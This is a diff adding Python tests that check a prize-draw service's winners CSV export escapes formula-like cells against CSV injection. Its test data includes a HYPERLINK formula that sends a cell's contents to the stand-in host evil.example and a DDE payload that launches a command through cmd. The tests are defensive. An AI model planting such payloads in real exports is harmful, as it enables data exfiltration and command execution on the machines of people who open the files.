@@ -9,6 +9,7 @@ from collections.abc import Callable
 
 import httpx
 
+from app.http import spreadsheet
 from app.jobs.worker import Worker
 from app.services.container import Services
 from tests.conftest import ServiceFactory, admin_headers
@@ -128,6 +129,60 @@ async def test_winners_json_and_csv(make_service: ServiceFactory, http: Http) ->
         await client.get("/v1/admin/activities/999999/winners?format=csv", headers=admin_headers()),
         404,
     )
+
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"claim")',
+    "value": "+1+cmd|' /C calc'!A0",
+}
+
+
+async def test_winners_csv_cells_are_never_formulas(
+    make_service: ServiceFactory, http: Http
+) -> None:
+    """OWASP CSV injection: prize names, values, keys and user ids that begin
+    like a formula come out as text (a leading quote); the JSON is untouched."""
+    svc = make_service(offset_to(local(DAY, 10, 5)))
+    client = http(svc)
+    prizes = [
+        prize("-k", 50, 0.5, name=HOSTILE["name"], value=HOSTILE["value"]),
+        prize("n", 50, 0.5, name="@SUM(1+1)", value="-5"),
+    ]
+    aid = (
+        await client.post("/v1/admin/activities", json=rain(prizes), headers=admin_headers())
+    ).json()["id"]
+    await client.post(f"/v1/admin/activities/{aid}/publish", headers=admin_headers())
+    for user in ("@A1", "-1", "plain"):
+        for _ in range(6):
+            await client.post("/v1/draw", json={"activity_id": aid}, headers=bearer(user))
+    await Worker(svc.settings, svc.redis, svc.db, name="w").drain(30)
+    rows = (
+        await client.get(f"/v1/admin/activities/{aid}/winners", headers=admin_headers())
+    ).json()["winners"]
+    resp = await client.get(
+        f"/v1/admin/activities/{aid}/winners?format=csv", headers=admin_headers()
+    )
+    table = list(csv.DictReader(io.StringIO(resp.text)))
+    assert len(table) == len(rows) and {r["prize_key"] for r in rows} == {"-k", "n"}
+    assert {r["user_id"] for r in rows} == {"@A1", "-1", "plain"}
+    for line, raw in zip(table, rows, strict=True):
+        for column, text in line.items():
+            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), (column, text)
+            original = raw[column] or ""
+            dangerous = original.startswith(("=", "+", "-", "@"))
+            assert text == ("'" + original if dangerous else original), (column, text)
+    assert any(r["prize_name"] == HOSTILE["name"] for r in rows)  # JSON keeps the raw text
+    assert any(line["prize_name"] == "'" + HOSTILE["name"] for line in table)
+    assert any(line["prize_value"] == "'-5" and line["user_id"] == "'-1" for line in table)
+    assert any(line["user_id"] == "plain" for line in table)
+
+
+def test_spreadsheet_cells() -> None:
+    for text in ("=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "\n=1"):
+        assert spreadsheet.cell(text) == "'" + text
+    for text in ("", "CPN-2", "2 yuan", "'=1"):
+        assert spreadsheet.cell(text) == text
+    assert spreadsheet.cell(-5) == -5 and spreadsheet.cell(None) is None  # ints we produce
 
 
 async def test_round_page_shows_masked_winners_after_it_ends(
